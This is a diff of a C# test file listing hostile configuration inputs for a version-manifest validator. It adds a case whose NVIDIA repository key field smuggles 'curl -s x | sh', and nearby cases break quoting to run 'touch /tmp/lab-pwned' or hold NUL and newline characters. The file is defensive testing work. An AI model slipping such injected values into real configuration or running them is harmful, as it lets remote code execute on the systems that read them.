@@ -37,6 +37,7 @@ public class HostileCorpusTests
         // Versions
         new("package pin: quote break", "chrony: 4.5-1ubuntu4.2", "chrony: \"4.5'; touch /tmp/lab-pwned; '\"", "lab:versions.osPackages.chrony"),
         new("package name: shell", "pciutils: 1:3.10.0-2build1", $"\"pci{Pwn}\": 1:3.10.0-2build1", "lab:versions.osPackages"),
+        new("nvidia repository key: not a fingerprint", "containerToolkit: 1.17.8-1", "containerToolkit: 1.17.8-1\n    nvidiaRepositoryKey: \"C95B321B; curl -s x | sh\"", "lab:versions.nvidiaRepositoryKey"),
         new("driver: trailing newline", "nvidiaDriver: 580.95.05-0ubuntu0.24.04.2", "nvidiaDriver: \"580.95.05-0ubuntu0.24.04.2\\n\"", "lab:versions.nvidiaDriver"),
         new("ubuntu: NUL", "ubuntu: \"24.04\"", "ubuntu: \"24.04\\0\"", "lab:versions.ubuntu"),
         // Nodes
